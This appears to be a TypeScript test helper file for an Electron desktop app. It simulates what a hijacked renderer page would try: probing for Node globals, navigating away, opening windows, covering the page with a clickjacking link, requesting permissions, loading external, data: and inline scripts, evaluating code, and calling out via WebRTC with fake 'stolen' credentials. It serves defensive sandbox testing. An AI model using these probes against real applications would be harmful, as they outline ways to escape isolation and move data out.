/**
 * What a page that was taken over would try. Each function is sent to the page as text: it can use nothing outside of
 * itself.
 */

/** What of Node and Electron is within reach. */
export function lookAround() {
  const all = window as unknown as Record<string, unknown>;
  return {
    node: ['require', 'process', 'module', 'Buffer', 'global', '__dirname'].filter(
      (name) => all[name] !== undefined,
    ),
    bridge: Object.keys(all['berthDesktop'] as object).toSorted(),
    isIsolated: !('ipcRenderer' in all),
  };
}

/** Goes to an address: by script, and by a link. */
export function leaveFor(address: string): void {
  location.href = address;
  const link = document.createElement('a');
  link.href = address;
  document.body.append(link);
  link.click();
  link.remove();
}

/** @returns the windows that it got */
export function openWindows(): readonly unknown[] {
  const link = document.createElement('a');
  link.href = 'https://example.com/';
  link.target = '_blank';
  document.body.append(link);
  link.click();
  link.remove();
  return [window.open('https://example.com/'), window.open('app://berth/'), window.open('')];
}

/** Puts a link in the page that covers it, for a click of a person. */
export function coverWithLink(address: string): void {
  const link = document.createElement('a');
  link.id = 'cover';
  link.href = address;
  link.style.cssText = 'position: fixed; inset: 0; z-index: 9999';
  document.body.append(link);
}

export const uncover = (): void => document.getElementById('cover')?.remove();

/** @returns for each permission how it was refused, or what it gave */
export async function askForPermissions(): Promise<readonly string[]> {
  const failed = (error: unknown): string => (error as Error).name;
  return [
    await navigator.requestMIDIAccess({ sysex: true }).then(() => 'midi', failed),
    await navigator.clipboard.readText().then(() => 'clipboard', failed),
    await Notification.requestPermission(),
    await new Promise<string>((resolve) => {
      navigator.geolocation.getCurrentPosition(
        () => resolve('position'),
        ({ code }) => resolve(code === 1 ? 'denied' : String(code)),
      );
    }),
  ];
}

/** Runs and loads what is not the interface's own. */
export async function bringIn() {
  const violated = new Set<string>();
  document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
    violated.add(effectiveDirective),
  );
  const all = window as unknown as { ran?: string[] };
  all.ran = [];
  const run = ({ src, text }: { src?: string; text?: string }): Promise<void> =>
    new Promise((resolve) => {
      const script = document.createElement('script');
      script.onload = () => resolve();
      script.onerror = () => resolve();
      if (src !== undefined) script.src = src;
      script.textContent = text ?? '';
      document.head.append(script);
      if (src === undefined) resolve();
    });
  await run({ src: 'https://example.com/x.js' });
  await run({ src: 'data:text/javascript,ran.push("data")' });
  await run({ text: 'ran.push("inline")' });
  const frame = document.createElement('iframe');
  frame.src = 'https://example.com/';
  document.body.append(frame);
  const fetched = await fetch('http://127.0.0.1:9/').then(
    () => 'fetched',
    () => 'refused',
  );
  let evaluated = 'no';
  try {
    evaluated = new Function('return "yes"')();
  } catch {
    // Refused.
  }
  await new Promise((resolve) => setTimeout(resolve));
  return { ran: all.ran, fetched, evaluated, violated: [...violated].toSorted() };
}

/** @returns the status of each answer */
export const fetchAll = (paths: readonly string[]): Promise<readonly number[]> =>
  Promise.all(paths.map(async (path) => (await fetch(path)).status));

/**
 * Asks for ways out by WebRTC, and waits until it has looked for all of them.
 *
 * @returns the candidates that it found, or how it was refused
 */
export async function callOut(servers: readonly string[]): Promise<readonly string[] | string> {
  try {
    const peer = new RTCPeerConnection({
      iceServers: servers.map((urls) => ({ urls, username: 'stolen', credential: 'x' })),
    });
    const found: string[] = [];
    const done = new Promise<void>((resolve) => {
      peer.onicecandidate = ({ candidate }) => {
        if (candidate === null) resolve();
        else found.push(candidate.candidate);
      };
    });
    peer.createDataChannel('out');
    await peer.setLocalDescription(await peer.createOffer());
    await Promise.race([done, new Promise((resolve) => setTimeout(resolve, 3000))]);
    peer.close();
    return found;
  } catch (error) {
    return (error as Error).name;
  }
}

/** Objects to its end, as a page with unsaved work would. */
export function refuseToGo(): void {
  addEventListener('beforeunload', (event) => event.preventDefault());
}
